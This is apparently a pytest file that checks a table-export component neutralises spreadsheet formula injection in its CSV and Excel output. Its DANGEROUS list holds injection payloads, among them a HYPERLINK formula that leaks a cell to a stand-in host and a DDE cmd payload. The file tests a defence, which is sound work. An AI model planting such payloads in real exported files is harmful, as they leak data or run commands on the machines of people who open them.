"""Safe exports: a cell that a spreadsheet would run as a formula comes out as text, in the
CSV and in the workbook (openpyxl reads no formula)."""

import csv
import io

import openpyxl
import pandas as pd
import pytest

from components import tables

DANGEROUS = ['=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")', "+1+1", "-2+3", "@SUM(A1)",
             "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0", "＝1+1"]


def frame() -> pd.DataFrame:
    return pd.DataFrame({"问题": DANGEROUS, "件数": range(len(DANGEROUS)),
                         "=列名": ["安全"] * len(DANGEROUS)})


def test_every_formula_cell_of_the_csv_starts_with_an_apostrophe():
    text = tables.csv_bytes(frame()).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    header, body = rows[0], rows[1:]
    assert header[2] == "'=列名"
    assert [r[0] for r in body] == ["'" + d for d in DANGEROUS]
    assert [r[1] for r in body] == [str(i) for i in range(len(DANGEROUS))]  # numbers untouched


def test_no_cell_of_the_workbook_is_a_formula_and_the_text_is_kept():
    book = openpyxl.load_workbook(io.BytesIO(tables.excel_bytes(frame(), "问题清单",
                                                                notes=["=1+1 的说明"])))
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    assert cells and not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells if isinstance(c.value, str)}
    assert {"'" + d for d in DANGEROUS} <= texts
    assert any(isinstance(c.value, int) for c in cells)  # numbers stay numbers


@pytest.mark.parametrize("value", ["普通文本", "", "a=b", "3-2", None])
def test_harmless_cells_are_left_alone(value):
    assert tables.inert_cell(value) == value
